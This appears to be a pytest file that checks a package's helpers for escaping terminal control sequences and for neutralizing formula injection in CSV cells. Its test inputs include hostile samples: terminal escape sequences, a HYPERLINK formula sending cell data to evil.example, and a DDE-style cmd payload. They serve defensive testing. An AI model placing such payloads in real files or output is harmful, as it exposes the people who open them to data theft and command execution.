"""The two text-safety rules every writer uses: escaped display, neutralized CSV cells."""

from __future__ import annotations

import csv
import io

import pytest

from pools_core._text import csv_cell, csv_writer, display


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("plain name", "plain name"),
        ("Café Zürich", "Café Zürich"),
        ("a\x1b[2Jb", "a\\x1b[2Jb"),
        ("multi\nline  delete pool 1234", "multi\\nline  delete pool 1234"),
        ("\x1b]52;c;ZXZpbA==\x07", "\\x1b]52;c;ZXZpbA==\\x07"),
        (
            "\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\",
            "\\x1b]8;;http://evil.example\\x1b\\x\\x1b]8;;\\x1b\\",
        ),
        ("right\u202eleft", "right\\u202eleft"),
        ("cr\rtab\t", "cr\\rtab\\t"),
        ("del\x7f c1\x9b", "del\\x7f c1\\x9b"),
    ],
)
def test_display_escapes_what_a_terminal_would_run(raw: str, shown: str) -> None:
    assert display(raw) == shown
    assert display(raw).isprintable()


def test_display_takes_any_object() -> None:
    assert display(42) == "42"


@pytest.mark.parametrize(
    ("raw", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
            '\'=HYPERLINK("http://evil.example/?d="&A1,"Click")',
        ),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("+cmd", "'+cmd"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("+14155552671", "+14155552671"),
        ("-5", "-5"),
        ("12.5", "12.5"),
        ("sales-ca-01", "sales-ca-01"),
        ("", ""),
    ],
)
def test_csv_cell_neutralizes_formulas_but_not_numbers(raw: str, written: str) -> None:
    assert csv_cell(raw) == written


def test_csv_cell_keeps_non_strings() -> None:
    assert csv_cell(None) is None
    assert csv_cell(3) == 3


def test_csv_writer_neutralizes_every_cell_and_round_trips_numbers() -> None:
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["pool", "phone_number"])
    writer.writerows([["=1+1", "+14155552671"], ["ok", "-2+3"]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["pool", "phone_number"], ["'=1+1", "+14155552671"], ["ok", "'-2+3"]]
    assert out.getvalue().endswith("\n")
    assert "\r\n" not in out.getvalue()
